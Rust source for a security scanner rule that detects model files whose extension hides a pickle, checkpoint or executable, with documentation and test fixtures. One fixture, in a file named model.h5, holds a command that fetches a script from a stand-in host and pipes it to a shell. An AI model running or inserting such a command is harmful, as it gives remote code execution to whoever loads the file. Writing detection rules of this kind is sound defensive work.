use stance_core::fact::{AnomalyKind, Artifact, ArtifactFormat, Fact};
use stance_core::{Severity, Snapshot};
use stance_inspect::{is_certain_model_name, says_model, zip};

use crate::{Cx, Rule};

rule! {
    /// # Model file that is not what its name says
    ///
    /// ## What it finds
    /// A pickle, a PyTorch checkpoint or an archive of models under the name of a format that runs nothing
    /// (`.safetensors`, `.gguf`, `.onnx`, `.json`, `.png` and the like), and a program under the name of a model:
    /// an executable, a class, compiled or written code that reaches out. Of names that firmware and other data
    /// have as well (`.bin`, `.dat`) only those count that stand with models or in a path that says model.
    ///
    /// ## Why it matters
    /// People and filters trust the extension: a policy that admits only safetensors admits this file. Loaders
    /// trust the content: `torch.load` runs a pickle under any name. Nobody renames a checkpoint to a picture
    /// by accident.
    ///
    /// ## Example
    /// ```text
    /// model.safetensors    starts with "PK", holds archive/data.pkl
    /// ```
    ///
    /// ## Fix
    /// Do not load the file. If it is yours, give it the name of its format, and convert checkpoints to
    /// safetensors with the tools of the library that wrote them. Admit models by content, not by name.
    ///
    /// ## References
    /// - [MITRE ATLAS: Masquerading](https://atlas.mitre.org/techniques/AML.T0074)
    NameMismatch {
        id: "model/name-mismatch",
        severity: High,
        stage: Supply,
        controls: [
            "owasp-llm-2025:LLM03",
            "mitre-atlas:AML.T0074",
            "mitre-atlas:AML.T0010.003",
            "nist-ai-rmf-1.0:MEASURE 2.7",
            "eu-ai-act:Art. 15",
        ],
        bad: [
            crate::made!("model.safetensors", torch),
            crate::made!("logo.png", torch),
            crate::made!("labels.txt", pickle),
            crate::made!("model.pt", program),
            crate::made!("pytorch_model.bin", program),
            crate::text!("model.h5", "import os\nos.system('curl http://x.example/x | sh')\n"),
        ],
        good: [
            crate::made!("model.pt", torch),
            crate::made!("model.bin", torch),
            crate::made!("notes.txt", zip_of_notes),
            crate::made!("tools/busybox.bin", program),
            crate::made!("tools/flasher.bin", program),
            crate::text!("train.pt", "o modelo importa o sistema e avalia\n"),
        ],
    }
}

impl Rule for NameMismatch {
    fn artifact(&self, artifact: &Artifact, cx: &mut Cx<'_>) {
        let path = &artifact.evidence.path;
        let certain = artifact.format != ArtifactFormat::Other
            || is_certain_model_name(path)
            || says_model(path)
            || has_models_beside(path, cx.snapshot());
        if !certain {
            return;
        }
        if let Some((draft, _)) = cx.report_anomalies(artifact, AnomalyKind::NameMismatch)
            && (artifact.format == ArtifactFormat::Archive || path.ends_with(".npy"))
        {
            // Old programs pickle arrays into files of this name, and NumPy loads them.
            draft.severity(Severity::Medium);
        }
    }
}

/// Whether models lie in the directory of a file.
fn has_models_beside(path: &str, snapshot: &Snapshot) -> bool {
    let end = path.rfind('/').map_or(0, |slash| slash.saturating_add(1));
    let directory = path.get(..end).unwrap_or_default();
    let all = &snapshot.observations;
    // They stand in order of their paths.
    let start = all.partition_point(|observation| *observation.subject < *directory);
    all.iter()
        .skip(start)
        .take_while(|observation| observation.subject.starts_with(directory))
        .any(|observation| {
            let inside = observation.subject.get(end..).unwrap_or_default();
            matches!(&observation.fact, Fact::Artifact(artifact)
                if !matches!(artifact.format, ArtifactFormat::Other | ArtifactFormat::Configuration | ArtifactFormat::Archive)
                    && !inside.contains('/'))
        })
}

fn torch() -> Vec<u8> {
    zip::assemble::zip(&zip::assemble::torch(&pickle()))
}

fn pickle() -> Vec<u8> {
    b"\x80\x02}q\x00(X\x01\x00\x00\x00aq\x01K\x01u.".to_vec()
}

fn program() -> Vec<u8> {
    let mut program = b"\x7fELF\x02\x01\x01".to_vec();
    program.resize(256, 0);
    program
}

fn zip_of_notes() -> Vec<u8> {
    zip::assemble::zip(&[zip::assemble::part("notes.md", "notes")])
}
